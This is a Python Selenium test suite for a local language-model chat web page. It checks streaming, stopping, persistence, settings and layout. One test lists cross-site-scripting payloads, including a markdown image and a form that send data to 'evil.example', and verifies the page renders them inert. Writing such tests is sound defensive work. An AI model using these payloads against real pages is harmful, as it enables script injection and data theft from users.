"""The web page in a real browser: it streams, stops, remembers, and runs nothing that a model writes."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.request import urlopen

import pytest

pytestmark = [pytest.mark.browser, pytest.mark.filterwarnings("ignore")]


@pytest.fixture(scope="module")
def url(make_tiny_model: Any) -> Iterator[str]:
    path: Path = make_tiny_model(context=16_384, hidden=256, ffn=1024, layers=6)
    command = [sys.executable, "-m", "pyqwen", "serve", "-m", str(path), "--port", "0", "-t", "1"]
    process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
    assert process.stderr is not None
    address = ""
    for line in process.stderr:
        if found := re.search(r"listening on (http://\S+)", line):
            address = found[1]
            break
    yield address
    process.kill()
    process.wait()
    process.stderr.close()


@pytest.fixture
def page(url: str, unavailable: Callable[[str], Any], tmp_path: Path) -> Iterator[Any]:
    """The page in headless Chromium, with empty storage."""
    try:
        from selenium import webdriver
    except ImportError:
        unavailable("the package selenium is not installed")
    chromium = shutil.which("chromium") or shutil.which("google-chrome")
    driver = shutil.which("chromedriver")
    if chromium is None or driver is None:
        unavailable("there is no chromium with its chromedriver (Debian: chromium-driver)")
    options = webdriver.ChromeOptions()
    options.binary_location = chromium
    for flag in ("--headless=new", "--no-sandbox", "--disable-gpu", "--window-size=1200,800"):
        options.add_argument(flag)
    options.add_argument(f"--user-data-dir={tmp_path / 'profile'}")
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    browser = webdriver.Chrome(options, webdriver.ChromeService(driver, env=os.environ.copy()))
    try:
        browser.get(url)
        until(
            lambda: browser.execute_script(
                "return document.querySelectorAll('#model option').length"
            )
        )
        yield browser
    finally:
        browser.quit()


def until(is_so: Callable[[], Any], seconds: float = 20.0) -> Any:
    deadline = time.monotonic() + seconds
    while not (found := is_so()):
        assert time.monotonic() < deadline, "it did not happen in time"
        time.sleep(0.02)
    return found


def settings(page: Any, **values: Any) -> None:
    page.execute_script(
        "localStorage.setItem('pyqwen:settings', JSON.stringify(arguments[0]))", values
    )


def say(page: Any, text: str) -> None:
    from selenium.webdriver.common.keys import Keys

    page.find_element("id", "prompt").send_keys(text, Keys.ENTER)


def texts(page: Any, kind: str = "assistant") -> list[str]:
    found: list[str] = page.execute_script(
        "return [...document.querySelectorAll('article.' + arguments[0] + ' .text')]"
        ".map(each => each.textContent)",
        kind,
    )
    return found


def is_writing(page: Any) -> bool:
    return bool(page.find_element("id", "stop").is_displayed())


def complaints(page: Any) -> list[str]:
    return [entry["message"] for entry in page.get_log("browser") if entry["level"] == "SEVERE"]


def test_an_answer_streams_and_is_there_after_a_reload(page: Any) -> None:
    settings(page, max_tokens=200, temperature=0)
    say(page, "Tell me about sea shells.")
    until(lambda: is_writing(page) and len("".join(texts(page))) > 10)
    until(lambda: not is_writing(page))
    (answer,) = texts(page)
    assert len(answer) > 100
    assert "tokens/s" in page.find_element("id", "speed").text
    assert re.search(r"\d+ / 16384", page.find_element("id", "context-text").text)
    page.refresh()
    assert until(lambda: texts(page)) == [answer]
    assert texts(page, "user") == ["Tell me about sea shells."]
    assert not complaints(page)


def test_stop_stops_the_model(page: Any, url: str) -> None:
    settings(page, max_tokens=15_000, logit_bias=None)
    say(page, "Go on and on.")
    until(lambda: is_writing(page) and len("".join(texts(page))) > 10)
    page.find_element("id", "stop").click()
    until(lambda: not is_writing(page))

    def is_idle() -> bool:
        with urlopen(f"{url}/slots", timeout=10) as response:
            return not any(slot["is_processing"] for slot in json.loads(response.read()))

    until(is_idle, 2)
    say(page, "Another one.")  # and the conversation goes on
    until(lambda: is_writing(page))
    page.find_element("tag name", "body").send_keys("\ue00c")  # Escape
    until(lambda: not is_writing(page))
    assert len(texts(page, "user")) == 2


@pytest.mark.parametrize(
    "attack",
    [
        "<img src=x onerror=document.title='hacked'>",
        "<script>document.title='hacked'</script>",
        "[click](javascript:document.title='hacked')",
        "<svg onload=document.title='hacked'></svg>",
        "<a href=javascript:document.title='hacked'>x</a>",
        "![x](https://evil.example/?secret)",
        "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
        "```html\\n<img src=x onerror=document.title='hacked'>\\n```",
        "<style>*{display:none}</style><form action=https://evil.example><input>",
    ],
)
def test_what_a_model_writes_cannot_act(page: Any, attack: str) -> None:
    settings(page, schema=json.dumps({"const": json.loads(f'"{attack}"')}), max_tokens=300)
    say(page, "Attack.")
    until(lambda: texts(page) and not is_writing(page))
    time.sleep(0.3)
    assert page.title == "pyqwen"
    dangerous = page.execute_script(
        "return document.querySelectorAll("
        "'#messages :is(img, script, svg, iframe, style, form, input)').length"
    )
    assert dangerous == 0
    links = page.execute_script(
        "return [...document.querySelectorAll('#messages a')].map(a => a.href)"
    )
    assert all(link.startswith(("http:", "https:")) for link in links)
    assert not [line for line in complaints(page) if "evil.example" in line]


def test_editing_settings_and_a_second_conversation(page: Any) -> None:
    page.find_element("id", "open-settings").click()
    page.find_element("id", "max_tokens").send_keys("8")
    page.find_element("id", "schema").send_keys("{")
    page.find_element("id", "save-settings").click()
    assert "not what it should be" in page.find_element("id", "settings-error").text
    page.find_element("id", "schema").clear()
    page.find_element("id", "save-settings").click()
    until(lambda: not page.find_element("id", "settings").is_displayed())
    say(page, "First")
    until(lambda: texts(page) and not is_writing(page))
    page.find_element("xpath", "//article[contains(@class,'user')]//button[text()='Edit']").click()
    box = page.find_element("css selector", "article.user textarea")
    box.clear()
    box.send_keys("Second")
    page.find_element("xpath", "//button[text()='Send again']").click()
    until(lambda: texts(page, "user") == ["Second"] and not is_writing(page))
    page.find_element("id", "new").click()
    assert texts(page, "user") == []
    assert len(page.find_elements("css selector", "#conversations li")) == 2
    assert not complaints(page)


def test_phone_and_darkness(page: Any) -> None:
    page.set_window_size(390, 800)
    width = page.execute_script("return document.documentElement.scrollWidth")
    assert width <= page.execute_script("return window.innerWidth")
    assert not page.find_element("id", "new").is_displayed()
    page.find_element("id", "menu").click()
    until(lambda: page.find_element("id", "new").is_displayed())
    before = page.execute_script("return document.documentElement.className")
    page.find_element("id", "theme").click()
    assert page.execute_script("return document.documentElement.className") != before
